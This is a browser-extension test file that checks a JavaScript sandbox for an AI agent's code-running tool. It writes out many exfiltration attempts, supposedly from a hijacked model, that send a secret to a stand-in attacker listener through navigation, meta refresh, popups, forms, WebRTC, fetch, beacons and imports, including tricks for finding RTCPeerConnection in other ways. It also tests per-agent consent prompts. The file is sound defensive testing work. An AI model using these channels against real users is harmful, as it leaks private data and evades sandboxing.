import type { Frame } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { text, toolCalls } from '../support/openai-server';
import { roleScript, toolResultsOf } from '../support/team-script';
import { agentRequests, enableAgentMode, giveGoal, toolResults } from './support/agent';
import { type ExfilListeners, startExfilListeners } from './support/exfil-listeners';
import { openExtensionPage } from './support/extension';
import { type Session, startSession } from './support/session';
import { startTeam, teamRun } from './support/team';

/**
 * `run_javascript` once the user allowed it: the code is the attacker's (a
 * hijacked model writes it) and holds a secret. Whatever channel it tries —
 * navigating its frame, a meta refresh, a popup, a form, WebRTC to a STUN/TURN
 * server, or the plain network APIs — neither the attacker's HTTP server nor
 * its UDP port may hear anything, and the egress audit (which does not allow
 * the attacker's origin) must stay clean. Each attack's code then reports it
 * is still running, so "nothing arrived" cannot mean "the code never ran".
 */
const secret = 'secret-4d1e-account-number-8812';
const j = (value: unknown) => JSON.stringify(value);
/** Tries one attack, gives it time to deliver, and says the code is still there afterwards. */
const attempt = (attack: string) =>
  `console.log("trying");\ntry {\n${attack}\n} catch (error) {\n  console.log("refused:", error.name);\n}\n` +
  'await new Promise((resolve) => setTimeout(resolve, 1000));\nreturn "still here";';

describe('run_javascript cannot send data anywhere', () => {
  let s: Session;
  let exfil: ExfilListeners;
  let runs = 0;
  beforeAll(async () => {
    s = await startSession();
    exfil = await startExfilListeners();
    await s.show(s.pages.fixtureUrl('empty.html'));
    await enableAgentMode(s.panel);
  });
  beforeEach(() => {
    exfil.httpLog.length = 0;
    exfil.udpLog.length = 0;
  });
  // A test that failed half-way leaves no run waiting that a later test could pick up.
  afterEach(async () => {
    s.llm.setFallback(text('Hello from the test server.'));
    const stop = s.panel.getByRole('button', { name: 'Stop' });
    if (!(await stop.isVisible())) return;
    await stop.click();
    await s.panel.getByRole('button', { name: 'New run' }).waitFor();
  });
  afterAll(async () => {
    await s?.close();
    await exfil?.close();
  });

  const consent = () => s.panel.getByTestId('agent-consent');
  const leakUrl = (path: string) => `${exfil.httpOrigin}/${path}?d=${secret}`;

  /**
   * The "model" calls run_javascript with `code`, then answers `done` once it has the result. A reply computed
   * from the request (not a queue), so a run left behind by a failed test cannot shift the next test's answers.
   */
  function scriptCodeRun(code: string, done: string, timeoutMs?: number) {
    s.llm.setFallback((request) =>
      toolResults(request).length > 0
        ? text(done)
        : toolCalls([{ name: 'run_javascript', arguments: j({ code, ...(timeoutMs ? { timeoutMs } : {}) }) }]),
    );
  }

  /** The model calls run_javascript with `code`; the user allows it in the panel; returns the tool result. */
  async function runAllowed(code: string, timeoutMs?: number): Promise<string> {
    const done = `Done ${++runs}.`;
    scriptCodeRun(code, done, timeoutMs);
    const goal = `Work this out with a little code (${runs})`;
    await giveGoal(s.panel, goal);
    await expect.poll(() => consent().count()).toBe(1);
    await consent().getByRole('button', { name: 'Allow once' }).click();
    await expect.poll(() => s.panel.getByTestId('agent-final').innerText(), { timeout: 30_000 }).toContain(done);
    return resultOf(goal);
  }

  /** The run_javascript result the model got in the run with this goal. */
  function resultOf(goal: string): string {
    const request = agentRequests(s.llm).findLast((body) => body.messages.some((m) => m.content === goal));
    return toolResults(request).at(-1) ?? '';
  }

  /** Nothing reached the attacker's HTTP server or UDP port, and nothing left for a host nobody allowed. */
  function expectNothingLeaked() {
    expect(exfil.httpLog).toEqual([]);
    expect(exfil.udpLog).toEqual([]);
    expect(s.aside.audit.strayRequests().map((record) => record.url)).toEqual([]);
  }

  it('consent: the card shows the code itself, line by line, in a scrolling box', async () => {
    const steps = Array.from({ length: 40 }, (_, n) => `// step ${n + 1}: "quoted" and <b>not markup</b>`);
    const code = [
      'const rows = [1, 2, 3];',
      ...steps,
      'console.log("rows:", rows.length);',
      'return rows.map((n) => "«" + n + "»").join(" ");',
    ].join('\n');
    scriptCodeRun(code, 'Shown and run.');
    const goal = 'Format three rows';
    await giveGoal(s.panel, goal);
    const shown = consent().getByTestId('consent-code');
    await expect.poll(() => shown.count()).toBe(1);
    // The code as written (real line breaks, quotes unescaped), not a JSON string.
    expect(await shown.innerText()).toBe(code);
    // Long code scrolls inside its box instead of pushing the buttons out of reach.
    expect(await shown.evaluate((box) => getComputedStyle(box).overflowY)).toBe('auto');
    expect(await shown.evaluate((box) => box.scrollHeight > box.clientHeight)).toBe(true);
    expect(await consent().getByRole('button', { name: 'Allow once' }).isVisible()).toBe(true);
    await consent().getByRole('button', { name: 'Allow once' }).click();
    await expect.poll(() => s.panel.getByTestId('agent-final').innerText()).toContain('Shown and run.');
    expect(resultOf(goal)).toContain('Output:\nrows: 3\nResult: «1» «2» «3»');
  });

  const navigations: [string, (url: string) => string][] = [
    ['location = url', (url) => `location = ${j(url)};`],
    ['location.href = url', (url) => `location.href = ${j(url)};`],
    ['location.replace(url)', (url) => `location.replace(${j(url)});`],
    ['location.assign(url)', (url) => `location.assign(${j(url)});`],
    ['window.open(url, "_self")', (url) => `window.open(${j(url)}, "_self");`],
    [
      'a link click',
      (url) =>
        `const link = document.createElement("a");\nlink.href = ${j(url)};\ndocument.body.append(link);\nlink.click();`,
    ],
    ['the side panel itself (top.location)', (url) => `top.location.href = ${j(url)};`],
  ];
  it.each(navigations)('navigation: %s reaches no host', async (_name, attack) => {
    const result = await runAllowed(attempt(attack(leakUrl('navigate'))));
    expectNothingLeaked();
    expect(result).toContain('Result: still here');
  });

  const refreshes: [string, (meta: string, url: string) => string][] = [
    [
      'an appended <meta> element',
      (_meta, url) =>
        `const meta = document.createElement("meta");\nmeta.httpEquiv = "refresh";\nmeta.content = ${j(`0;url=${url}`)};\ndocument.head.append(meta);`,
    ],
    ['<meta> markup inserted as HTML', (meta) => `document.head.insertAdjacentHTML("beforeend", ${j(meta)});`],
  ];
  it.each(refreshes)('meta refresh: %s to the attacker reaches no host', async (_name, attack) => {
    const url = leakUrl('refresh');
    const result = await runAllowed(attempt(attack(`<meta http-equiv="refresh" content="0;url=${url}">`, url)));
    expectNothingLeaked();
    expect(result).toContain('Result: still here');
  });

  const popups: [string, (url: string) => string][] = [
    ['window.open(url)', (url) => `window.open(${j(url)});`],
    ['window.open(url, "_blank")', (url) => `window.open(${j(url)}, "_blank", "noopener");`],
    [
      'a target=_blank link click',
      (url) =>
        `const link = document.createElement("a");\nlink.href = ${j(url)};\nlink.target = "_blank";\ndocument.body.append(link);\nlink.click();`,
    ],
  ];
  it.each(popups)('popup: %s opens nothing and reaches no host', async (_name, attack) => {
    const pages = s.aside.context.pages().length;
    const result = await runAllowed(attempt(attack(leakUrl('popup'))));
    expectNothingLeaked();
    expect(s.aside.context.pages().length).toBe(pages);
    expect(result).toContain('Result: still here');
  });

  const forms: [string, string][] = [
    ['POST into its own frame', '_self'],
    ['POST into a new window', '_blank'],
  ];
  it.each(forms)('form: a %s reaches no host', async (_name, target) => {
    const form =
      `const form = document.createElement("form");\nform.method = "post";\nform.action = ${j(leakUrl('form'))};\n` +
      `form.target = ${j(target)};\nconst field = document.createElement("input");\nfield.name = "d";\n` +
      `field.value = ${j(secret)};\nform.append(field);\ndocument.body.append(form);\nform.submit();`;
    const result = await runAllowed(attempt(form));
    expectNothingLeaked();
    expect(result).toContain('Result: still here');
  });

  it('WebRTC: no STUN or TURN packet reaches the UDP port, however the code looks for RTCPeerConnection', async () => {
    const config = {
      iceServers: [
        { urls: `stun:127.0.0.1:${exfil.udpPort}` },
        { urls: `turn:127.0.0.1:${exfil.udpPort}?transport=udp`, username: secret, credential: secret },
      ],
    };
    const connect = `const peer = new Peer(${j(config)});\npeer.createDataChannel("leak");\nawait peer.setLocalDescription(await peer.createOffer());`;
    const code = [
      'const ways = {',
      '  RTCPeerConnection: () => RTCPeerConnection,',
      '  webkitRTCPeerConnection: () => webkitRTCPeerConnection,',
      '  "a computed global name": () => globalThis[["RTC", "Peer", "Connection"].join("")],',
      '  "the constructor of a session description": () => Object.getPrototypeOf(new RTCSessionDescription()).constructor && RTCPeerConnection,',
      '  "a fresh iframe": () => { const frame = document.createElement("iframe"); document.body.append(frame); return frame.contentWindow.RTCPeerConnection; },',
      '};',
      'for (const [way, find] of Object.entries(ways)) {',
      '  try {',
      '    const Peer = find();',
      `    ${connect.replaceAll('\n', '\n    ')}`,
      '    console.log(way + ": connecting");',
      '  } catch (error) {',
      '    console.log(way + ": " + error.name);',
      '  }',
      '}',
      'try {',
      `  const source = ${j(`try { const Peer = RTCPeerConnection; (async () => { ${connect} })(); postMessage("connecting"); } catch (error) { postMessage(error.name); }`)};`,
      '  const nested = new Worker(URL.createObjectURL(new Blob([source])));',
      '  console.log("a nested worker:", await new Promise((resolve) => { nested.onmessage = (event) => resolve(event.data); nested.onerror = () => resolve("error"); }));',
      '} catch (error) {',
      '  console.log("a nested worker: " + error.name);',
      '}',
      'console.log("RTC names left:", Object.getOwnPropertyNames(globalThis).filter((name) => /RTC/.test(name)).join(", ") || "none");',
      'await new Promise((resolve) => setTimeout(resolve, 1500));',
      'return "still here";',
    ].join('\n');
    const result = await runAllowed(code, 5000);
    expectNothingLeaked();
    expect(result).toContain('RTC names left: none');
    expect(result).not.toContain(': connecting');
    expect(result).toContain('Result: still here');
  });

  it('network APIs: fetch, XHR, an image, a beacon, WebSocket, EventSource and script imports reach no host', async () => {
    const url = leakUrl('api');
    const tries = [
      `await fetch(${j(url)}, { mode: "no-cors" });`,
      `const xhr = new XMLHttpRequest(); xhr.open("GET", ${j(url)}, false); xhr.send();`,
      `const image = new Image(); image.src = ${j(url)}; document.body.append(image);`,
      `if (!navigator.sendBeacon(${j(url)}, ${j(secret)})) throw new Error("beacon refused");`,
      `new WebSocket(${j(url.replace('http:', 'ws:'))});`,
      `new EventSource(${j(url)});`,
      `importScripts(${j(url)});`,
      `await import(${j(url)});`,
    ];
    const code =
      tries.map((attack) => `try { ${attack} } catch (error) { console.log("refused:", error.name); }`).join('\n') +
      '\nawait new Promise((resolve) => setTimeout(resolve, 1000));\nreturn "still here";';
    const result = await runAllowed(code, 5000);
    expectNothingLeaked();
    expect(result).toContain('Result: still here');
  });

  it('legitimate code still runs: output, a value, an error; an endless loop is stopped at its limit', async () => {
    const value = await runAllowed(
      'console.log("rows", 3);\nconst total = [1, 2, 3].reduce((a, b) => a + b, 0);\nreturn { total, 中文: "好" };',
    );
    expect(value).toContain('Output:\nrows 3\nResult: {\n  "total": 6,\n  "中文": "好"\n}');
    const thrown = await runAllowed('console.log("before");\nnull.field;');
    expect(thrown).toMatch(/Output:\nbefore\nError: TypeError: Cannot read properties of null/);

    // The loop runs in a worker of the sandbox page; at the limit it must be gone, not left spinning.
    const cdp = await s.panel.context().newCDPSession(s.panel);
    const sandboxWorkers = async () => {
      const { targetInfos } = (await cdp.send('Target.getTargets')) as {
        targetInfos: { type: string; url: string }[];
      };
      return targetInfos.filter((target) => target.type === 'worker' && target.url.startsWith('blob:null/')).length;
    };
    scriptCodeRun('while (true) {}', 'Loop stopped.', 4000);
    await giveGoal(s.panel, 'Spin forever');
    await consent().getByRole('button', { name: 'Allow once' }).click();
    await expect.poll(sandboxWorkers).toBe(1);
    await expect.poll(() => s.panel.getByTestId('agent-final').innerText(), { timeout: 30_000 }).toContain('stopped');
    expect(resultOf('Spin forever')).toBe('Timed out after 4000 ms; the code was stopped. Output before that is lost.');
    await expect.poll(sandboxWorkers).toBe(0);
    expect(await s.panel.locator('iframe').count()).toBe(0);
    await cdp.detach();
  });

  /**
   * The layers under the worker, each on its own: the sandbox page framed exactly as the runner frames it, and
   * code run in the page's own window over CDP, as if code had got out of the worker.
   */
  let framed = 0;
  async function sandboxPageFrame(): Promise<Frame> {
    const name = `sandbox-layer-${++framed}`;
    await s.panel.evaluate((name) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.name = name;
      frame.src = '/sandbox.html';
      document.body.append(frame);
    }, name);
    await expect.poll(() => s.panel.frame({ name })?.url() ?? '').toMatch(/\/sandbox\.html$/);
    const frame = s.panel.frame({ name });
    if (!frame) throw new Error('The sandbox page was not framed');
    await frame.waitForLoadState();
    return frame;
  }
  const removeFrames = () =>
    s.panel.evaluate(() => {
      for (const frame of document.querySelectorAll('iframe')) frame.remove();
    });

  const pageNavigations: [string, (url: string) => void][] = [
    [
      'location.href = url',
      (url) => {
        location.href = url;
      },
    ],
    [
      'a meta refresh',
      (url) => document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${url}">`),
    ],
  ];
  it.each(pageNavigations)(
    "layer, navigation: %s in the sandbox page itself is refused by the side panel's frame-src",
    async (_name, attack) => {
      const frame = await sandboxPageFrame();
      await frame.evaluate(attack, leakUrl('page-navigate'));
      // The page is gone either way: navigated away, or replaced by the browser's "blocked" page.
      await expect.poll(() => frame.url()).not.toMatch(/\/sandbox\.html$/);
      expect(frame.url()).not.toContain(exfil.httpOrigin);
      expectNothingLeaked();
      await removeFrames();
    },
  );

  it('layer, WebRTC: the sandbox page itself has no RTCPeerConnection either, nor a frame to take one from', async () => {
    const frame = await sandboxPageFrame();
    const config = { iceServers: [{ urls: `stun:127.0.0.1:${exfil.udpPort}` }] };
    const report = await frame.evaluate(async (config) => {
      const lines = [
        `RTC names left: ${
          Object.getOwnPropertyNames(window)
            .filter((n) => /RTC/.test(n))
            .join(', ') || 'none'
        }`,
      ];
      const ways: Record<string, () => unknown> = {
        'the page': () => (window as unknown as Record<string, unknown>).RTCPeerConnection,
        'a fresh iframe': () => {
          const inner = document.createElement('iframe');
          document.body.append(inner);
          return (inner.contentWindow as unknown as Record<string, unknown>).RTCPeerConnection;
        },
      };
      for (const [way, find] of Object.entries(ways)) {
        try {
          const Peer = find() as typeof RTCPeerConnection;
          const peer = new Peer(config);
          peer.createDataChannel('leak');
          await peer.setLocalDescription(await peer.createOffer());
          lines.push(`${way}: connecting`);
        } catch (error) {
          lines.push(`${way}: ${(error as Error).name}`);
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 1500));
      return lines;
    }, config);
    expectNothingLeaked();
    expect(report[0]).toBe('RTC names left: none');
    expect(report.some((line) => line.endsWith(': connecting'))).toBe(false);
    await removeFrames();
  });

  it("layer, popup and form: the iframe's sandbox flags refuse them in the sandbox page itself", async () => {
    const frame = await sandboxPageFrame();
    const pages = s.aside.context.pages().length;
    const opened = await frame.evaluate(async (url) => {
      const popup = window.open(url);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = url;
      form.target = '_blank';
      document.body.append(form);
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return popup !== null;
    }, leakUrl('page-popup'));
    expect(opened).toBe(false);
    expect(s.aside.context.pages().length).toBe(pages);
    expectNothingLeaked();
    await removeFrames();
  });

  it('team: the researcher allowed to run code does not let the writer run code; each is asked', async () => {
    // A copy of "Research my library" in which the researcher and the writer may run code.
    const options = await openExtensionPage(s.aside, 'options.html');
    const preset = options.getByTestId('team-row').filter({ hasText: 'Research my library' });
    await preset.getByRole('button', { name: 'Duplicate to edit' }).click();
    const editor = options.getByTestId('team-editor');
    await editor.getByLabel('Team name').fill('Coders');
    for (const member of ['Researcher', 'Writer']) {
      const fields = editor.locator(`[data-testid="team-agent"][aria-label$=": ${member}"]`);
      await fields.getByRole('checkbox', { name: 'Run JavaScript in a sandbox' }).check();
    }
    await editor.getByRole('button', { name: 'Save', exact: true }).click();
    await options.getByTestId('user-teams').getByText('Coders').waitFor();
    await options.close();

    const runCode = (code: string) => toolCalls([{ id: 'call_0', name: 'run_javascript', arguments: j({ code }) }]);
    const script = roleScript({
      Lead: (_request, nth) =>
        text(
          [
            '{"next": "Researcher", "instruction": "Count the sources."}',
            '{"next": "Writer", "instruction": "Check the count."}',
          ][nth] ?? '{"next": "FINISH"}',
        ),
      Researcher: (request) =>
        toolResultsOf(request).length === 0 ? runCode('return "researcher ran"') : text('Counted.'),
      Writer: (request) =>
        toolResultsOf(request).length === 0
          ? runCode('return "writer ran"')
          : text(`Checked, after: ${toolResultsOf(request).at(-1)}`),
    });
    s.llm.setFallback(script);
    const picker = s.panel.getByTestId('team-picker');
    await expect.poll(() => picker.locator('option', { hasText: 'Coders' }).count()).toBe(1);
    const teamId = (await picker.locator('option', { hasText: 'Coders' }).getAttribute('value')) ?? '';
    await startTeam(s.panel, teamId, 'Count my sources');

    await expect.poll(() => consent().count(), { timeout: 30_000 }).toBe(1);
    expect(await consent().innerText()).toContain('Researcher');
    expect(await consent().innerText()).toContain('researcher ran');
    await consent().getByRole('button', { name: 'Allow once' }).click();

    // The writer's code must wait for its own answer, not run under the researcher's.
    const status = () => teamRun(s.panel).getAttribute('data-status');
    const outcome = async () => ((await consent().count()) > 0 ? 'asked' : await status());
    await expect.poll(outcome, { timeout: 30_000 }).toMatch(/^(asked|done|error|stopped)$/);
    expect(await outcome()).toBe('asked');
    expect(await consent().innerText()).toContain('Writer');
    expect(await consent().getByTestId('consent-code').innerText()).toBe('return "writer ran"');
    await consent().getByRole('button', { name: 'Deny' }).click();
    await expect.poll(status, { timeout: 30_000 }).toBe('done');

    expect(script.speakers).toEqual(['Lead', 'Researcher', 'Researcher', 'Lead', 'Writer', 'Writer', 'Lead']);
    const results = s.llm.requests.flatMap((request) => toolResultsOf(request));
    expect(results.some((result) => result.includes('Result: researcher ran'))).toBe(true);
    expect(results.some((result) => result.includes('writer ran'))).toBe(false);
    expect(results.some((result) => result.includes('The user denied this run_javascript call'))).toBe(true);
  });
});
